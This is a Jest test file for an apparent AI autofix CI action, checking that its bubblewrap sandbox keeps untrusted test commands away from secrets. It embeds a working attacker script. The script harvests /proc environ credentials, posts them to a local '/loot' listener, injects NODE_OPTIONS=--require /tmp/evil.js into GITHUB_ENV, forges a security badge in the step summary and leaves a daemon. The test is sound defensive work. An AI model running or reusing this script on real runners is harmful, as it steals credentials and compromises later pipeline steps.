// The tests of a model's change are untrusted code. Through dist/index.js, as a runner starts it,
// a test command plays the attacker: it reads every /proc/*/environ and its grandparent's (the
// process that started the shell), sends what it found to a listener on 127.0.0.1 and prints it,
// writes the runner's command files (also found by scanning RUNNER_TEMP), and leaves a daemon.
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import {
  SAMPLE_TICKET,
  scriptedEditModel,
  scriptedTriageModel,
} from '../e2e/sample/scripted-model.js';
import { ADO_TOKEN, startWorld, type RunResult, type World } from '../e2e/world.js';

const GITHUB_TOKEN = 'ghs_runnerTokenValue0123456789abcdefABCDEF';
const SYSTEM_ACCESSTOKEN = 'azure-system-access-token-value-0123456789';
/** Values that carry a credential under names a denylist lets through. */
const CREDENTIAL_VALUES: Record<string, string> = {
  PIP_EXTRA_INDEX_URL: 'https://build:piptoken-0123456789@pypi.example.com/simple',
  DATABASE_URL: 'postgres://app:dbpassword-0123456789@db.example.com/app',
  HTTPS_PROXY: 'http://proxyuser:proxypassword-0123456789@proxy.example.com:3128',
  SONAR_LOGIN: 'sonar-login-token-0123456789',
  VSS_NUGET_EXTERNAL_FEED_ENDPOINTS:
    '{"endpointCredentials":[{"endpoint":"https://feed.example.com","password":"nuget-feed-password-0123456789"}]}',
};
const NEEDLES = [
  ADO_TOKEN,
  GITHUB_TOKEN,
  SYSTEM_ACCESSTOKEN,
  'piptoken-0123456789',
  'dbpassword-0123456789',
  'proxypassword-0123456789',
  'sonar-login-token-0123456789',
  'nuget-feed-password-0123456789',
];
const BADGE = 'Verified by the security team';

/**
 * The attacker, committed in the repository like any test helper. argv: the listener's port, then
 * folders to scan for the runner's files. It prints and posts what it found, then the tests run.
 */
const ATTACK = `
const fs = require('fs');
const http = require('http');
const [port, ...scan] = process.argv.slice(2);
const found = [];
const environ = (pid) => {
  try { found.push('environ ' + pid + ':\\n' + fs.readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').join('\\n')); }
  catch (e) { found.push('environ ' + pid + ': ' + e.code); }
};
const shell = process.ppid;
const starter = Number(fs.readFileSync('/proc/' + shell + '/stat', 'utf8').split(') ')[1].split(' ')[1]);
environ(starter);
for (const pid of fs.readdirSync('/proc').filter((d) => /^\\d+$/.test(d))) environ(pid);
for (const name of Object.keys(process.env)) found.push('env ' + name + '=' + process.env[name]);
const poison = (file) => {
  const text = /env/.test(file) ? 'NODE_OPTIONS=--require /tmp/evil.js\\n'
    : /summary/.test(file) ? '# ${BADGE}\\n' : 'forged<<EOF\\nyes\\nEOF\\n';
  try { fs.appendFileSync(file, text); found.push('wrote ' + file); }
  catch (e) { found.push('could not write ' + file + ': ' + e.code); }
};
const walk = (dir) => {
  let entries = [];
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { found.push('cannot list ' + dir + ': ' + e.code); }
  for (const e of entries) {
    const p = dir + '/' + e.name;
    if (e.isDirectory()) { if (!/repo|out/.test(e.name)) walk(p); }
    else if (/env|output|summary|path|state/i.test(e.name)) poison(p);
  }
};
for (const name of ['GITHUB_ENV', 'GITHUB_OUTPUT', 'GITHUB_STEP_SUMMARY']) if (process.env[name]) poison(process.env[name]);
for (const dir of scan) walk(dir);
const text = found.join('\\n');
console.log(text);
const req = http.request({ host: '127.0.0.1', port: Number(port), method: 'POST', path: '/loot' }, (res) => res.resume());
req.on('error', () => {});
req.end(text);
`;

let loot: string[] = [];
let listener: http.Server;
let port = 0;
beforeAll(async () => {
  listener = http.createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString('utf8')));
    req.on('end', () => {
      loot.push(body);
      res.end('ok');
    });
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as AddressInfo).port;
});
afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));

const worlds: World[] = [];
afterEach(async () => {
  loot = [];
  await Promise.all(worlds.splice(0).map((w) => w.close()));
});

async function world(): Promise<World> {
  const w = await startWorld({
    tickets: [SAMPLE_TICKET],
    triageAnswer: scriptedTriageModel(),
    editAnswer: scriptedEditModel({ fixes: true }),
    repoFiles: { 'attack.cjs': ATTACK },
  });
  worlds.push(w);
  return w;
}

/** A runner's temp dir with its command files, as the GitHub runner lays them out. */
function runnerTemp(w: World): { dir: string; files: Record<string, string> } {
  const dir = path.join(w.dir, 'runner-temp');
  const commands = path.join(dir, '_runner_file_commands');
  fs.mkdirSync(commands, { recursive: true });
  const files = {
    GITHUB_ENV: path.join(commands, 'set_env_1'),
    GITHUB_PATH: path.join(commands, 'add_path_1'),
    GITHUB_STATE: path.join(commands, 'save_state_1'),
  };
  for (const file of Object.values(files)) fs.writeFileSync(file, '');
  return { dir, files };
}

async function attack(
  w: World,
  options: { inputs?: Record<string, string>; env?: NodeJS.ProcessEnv } = {},
): Promise<{ r: RunResult; ms: number; temp: ReturnType<typeof runnerTemp> }> {
  const temp = runnerTemp(w);
  const started = Date.now();
  const r = await w.run({
    inputs: {
      'test-command': `setsid sleep 45 & node attack.cjs ${port} ${temp.dir} ${w.dir} && node --test`,
      'job-budget': '60s',
      // Listed on purpose: a credential-bearing value never passes, even when the user asks for it.
      'sandbox-env': 'PIP_EXTRA_INDEX_URL, DATABASE_URL, HTTPS_PROXY',
      ...options.inputs,
    },
    env: {
      GITHUB_TOKEN,
      SYSTEM_ACCESSTOKEN,
      ...CREDENTIAL_VALUES,
      NO_PROXY: '127.0.0.1,localhost',
      RUNNER_TEMP: temp.dir,
      ...temp.files,
      ...options.env,
    },
  });
  return { r, ms: Date.now() - started, temp };
}

/** Every text the job wrote or the attacker got: listener, log, summaries, PR body, comments, transcript. */
function everything(w: World, r: RunResult): string[] {
  const texts = [
    ...loot,
    r.stdout.replace(/^(::add-mask::|##vso\[task\.setsecret\]).*$/gm, ''),
    r.stderr,
    r.summary,
    fs.readFileSync(path.join(w.dir, 'step-summary.md'), 'utf8'),
  ];
  const transcript = r.outputs['transcript-file'];
  if (transcript) texts.push(fs.readFileSync(transcript, 'utf8'));
  for (const pr of w.ado.state.pullRequests.values()) texts.push(pr.description);
  for (const item of w.ado.state.workItems.values())
    texts.push(...item.comments.map((c) => c.text));
  return texts;
}

function expectSettled(w: World, tag: string): void {
  expect(w.ado.tagsOf(1)).toEqual(expect.arrayContaining(['autofix', tag]));
  expect(w.ado.tagsOf(1)).not.toContain('autofix:working');
}

/** A PATH with every tool of this machine but bubblewrap and unshare: a runner without them. */
function pathWithoutSandboxTools(w: World): string {
  const bin = path.join(w.dir, 'bin-without-sandbox');
  fs.mkdirSync(bin, { recursive: true });
  for (const dir of (process.env.PATH ?? '').split(':')) {
    if (!path.isAbsolute(dir) || !fs.existsSync(dir)) continue;
    for (const name of fs.readdirSync(dir)) {
      if (name === 'bwrap' || name === 'unshare' || fs.existsSync(path.join(bin, name))) continue;
      fs.symlinkSync(path.join(dir, name), path.join(bin, name));
    }
  }
  return bin;
}

describe('sandbox: the tests of a change reach no token, no later step, and do not outlive the job', () => {
  it('with bubblewrap (auto): nothing leaks, no command file is written, the daemon dies, the job settles', async () => {
    const w = await world();
    const { r, ms, temp } = await attack(w);

    expect(r.outputs.outcome).toBe('pr-opened');
    expectSettled(w, 'autofix:pr-opened');
    // The attacker ran (its report reached the listener), looked for the command files and found
    // nothing: the runner's temp folder is empty inside the sandbox.
    expect(loot.length).toBeGreaterThan(0);
    expect(loot.join('\n')).toContain('env PATH=');
    expect(loot.join('\n')).not.toContain(`wrote ${temp.files.GITHUB_ENV}`);
    for (const text of everything(w, r))
      for (const needle of NEEDLES) expect(text).not.toContain(needle);
    // No later-step file was written.
    for (const file of Object.values(temp.files)) expect(fs.readFileSync(file, 'utf8')).toBe('');
    expect(r.outputs.forged).toBeUndefined();
    expect(fs.readFileSync(path.join(w.dir, 'step-summary.md'), 'utf8')).not.toContain(BADGE);
    // Two verification runs each left a 45 s daemon: the action still ended promptly.
    expect(ms).toBeLessThan(30_000);
    // The reader is told which isolation ran.
    const pr = [...w.ado.state.pullRequests.values()][0]!;
    for (const text of [pr.description, r.summary])
      expect(text).toMatch(
        /Isolation of the commands:\*\* bubblewrap \d+\.\d+\.\d+: own PID and mount namespaces/,
      );
  }, 90_000);

  it('without bubblewrap (auto): runs, and the log, summary and PR body say what the tests could reach', async () => {
    const w = await world();
    const { r, ms, temp } = await attack(w, { env: { PATH: pathWithoutSandboxTools(w) } });

    expect(r.outputs.outcome).toBe('pr-opened');
    expectSettled(w, 'autofix:pr-opened');
    const pr = [...w.ado.state.pullRequests.values()][0]!;
    for (const text of [pr.description, r.summary, r.stdout])
      expect(text).toMatch(
        /none \(no sandbox available: bubblewrap \(bwrap\) is not on PATH\): the commands could read this job's own environment through \/proc/,
      );
    expect(r.stdout).toMatch(/::warning::.*without a sandbox/);
    // Bare, the attacker ran and could write the runner's command files (what the warning says);
    // even so, the environment is the allowlist: no credential-bearing value reached the tests.
    expect(loot.join('\n')).toContain('env PATH=');
    expect(loot.join('\n')).toContain(`wrote ${temp.files.GITHUB_ENV}`);
    for (const name of Object.keys(CREDENTIAL_VALUES))
      expect(loot.join('\n')).not.toContain(`env ${name}=`);
    // And the daemon, outside any PID namespace, still does not hold the action.
    expect(ms).toBeLessThan(30_000);
  }, 90_000);

  it('without bubblewrap (required): config-error naming the input and how to install it, no ticket claimed', async () => {
    const w = await world();
    const { r } = await attack(w, {
      inputs: { sandbox: 'required' },
      env: { PATH: pathWithoutSandboxTools(w) },
    });
    expect(r.outputs.outcome).toBe('config-error');
    expect(r.outputs.reason).toMatch(/Input 'sandbox' is 'required'.*apt-get install bubblewrap/);
    expect(w.ado.tagsOf(1)).toEqual(['autofix']);
    expect(w.ado.state.workItems.get(1)!.comments).toEqual([]);
    expect(loot).toEqual([]);
  }, 90_000);
});
